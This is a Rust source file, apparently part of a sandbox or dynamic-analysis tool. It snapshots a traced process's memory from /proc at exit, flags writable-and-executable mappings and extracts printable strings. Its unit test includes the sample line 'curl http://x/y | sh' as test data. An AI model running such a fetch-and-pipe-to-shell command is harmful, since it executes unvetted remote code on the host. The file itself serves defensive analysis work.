//! A process's memory at its end: the mappings that are both writable and executable, and
//! the printable strings of its writable anonymous memory (heap, stack, anonymous maps),
//! read from `/proc/PID/maps` and `/proc/PID/mem` while strace holds the process at the
//! entry of `exit_group` (or just before the run is stopped).

use std::collections::HashSet;
use std::fs::File;
use std::os::unix::fs::FileExt;

use warden_payload::dynamic::MemoryView;

/// Shortest string kept.
const MIN_STRING: usize = 8;
/// Longest string kept (longer runs are cut).
const MAX_STRING: usize = 4096;
/// Strings kept per process, and their total size.
const MAX_STRINGS: usize = 4096;
const MAX_STRING_BYTES: usize = 512 << 10;
/// Bytes read per call.
const CHUNK: usize = 1 << 20;

/// Reads one process's memory, at most `budget` bytes of it.
pub fn snapshot(pid: u32, program: &str, budget: u64) -> MemoryView {
    let mut view = MemoryView {
        pid,
        program: program.to_string(),
        ..MemoryView::default()
    };
    let Ok(maps) = std::fs::read_to_string(format!("/proc/{pid}/maps")) else {
        return view;
    };
    let mem = File::open(format!("/proc/{pid}/mem")).ok();
    let mut seen = HashSet::new();
    let mut kept_bytes = 0usize;
    let mut buf = vec![0u8; CHUNK];
    for line in maps.lines() {
        let Some(region) = Region::parse(line) else {
            continue;
        };
        if region.write && region.exec {
            view.wx_regions.push(line.trim().to_string());
        }
        if !(region.read && region.write && region.anonymous()) {
            continue;
        }
        let Some(mem) = &mem else { continue };
        let mut at = region.start;
        while at < region.end && view.bytes_read < budget {
            let want = ((region.end - at) as usize)
                .min(CHUNK)
                .min((budget - view.bytes_read) as usize);
            let Ok(n) = mem.read_at(&mut buf[..want], at) else {
                break;
            };
            if n == 0 {
                break;
            }
            view.bytes_read += n as u64;
            at += n as u64;
            for s in strings(&buf[..n]) {
                if view.strings.len() >= MAX_STRINGS || kept_bytes >= MAX_STRING_BYTES {
                    break;
                }
                if seen.insert(s.clone()) {
                    kept_bytes += s.len();
                    view.strings.push(s);
                }
            }
        }
    }
    view
}

struct Region<'a> {
    start: u64,
    end: u64,
    read: bool,
    write: bool,
    exec: bool,
    path: &'a str,
}

impl<'a> Region<'a> {
    fn parse(line: &'a str) -> Option<Region<'a>> {
        let mut parts = line.split_whitespace();
        let (start, end) = parts.next()?.split_once('-')?;
        let perms = parts.next()?.as_bytes();
        let path = parts.nth(3).unwrap_or("");
        Some(Region {
            start: u64::from_str_radix(start, 16).ok()?,
            end: u64::from_str_radix(end, 16).ok()?,
            read: perms.first() == Some(&b'r'),
            write: perms.get(1) == Some(&b'w'),
            exec: perms.get(2) == Some(&b'x'),
            path,
        })
    }

    fn anonymous(&self) -> bool {
        self.path.is_empty() || self.path == "[heap]" || self.path == "[stack]"
    }
}

/// Runs of printable ASCII at least [`MIN_STRING`] long.
fn strings(bytes: &[u8]) -> impl Iterator<Item = String> + '_ {
    bytes
        .split(|b| !(b.is_ascii_graphic() || *b == b' ' || *b == b'\t'))
        .filter(|run| run.len() >= MIN_STRING)
        .map(|run| String::from_utf8_lossy(&run[..run.len().min(MAX_STRING)]).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn maps_lines_and_strings() {
        let r = Region::parse("7f00-7f10 rwxp 00000000 00:00 0 ").unwrap_or_else(|| panic!());
        assert!(r.write && r.exec && r.anonymous());
        let r = Region::parse("55aa-55ab r--p 00000000 08:01 123 /usr/bin/bash")
            .unwrap_or_else(|| panic!());
        assert!(!r.write && !r.anonymous());
        let found: Vec<String> = strings(b"\0\0curl http://x/y | sh\0ab\x01short\0").collect();
        assert_eq!(found, ["curl http://x/y | sh"]);
    }

    #[test]
    fn this_process_can_be_read() {
        let marker = String::from("a marker string in the heap of this test");
        let v = snapshot(std::process::id(), "test", 256 << 20);
        assert!(v.bytes_read > 0);
        assert!(
            v.strings.iter().any(|s| s.contains(&marker)),
            "{} strings",
            v.strings.len()
        );
    }
}
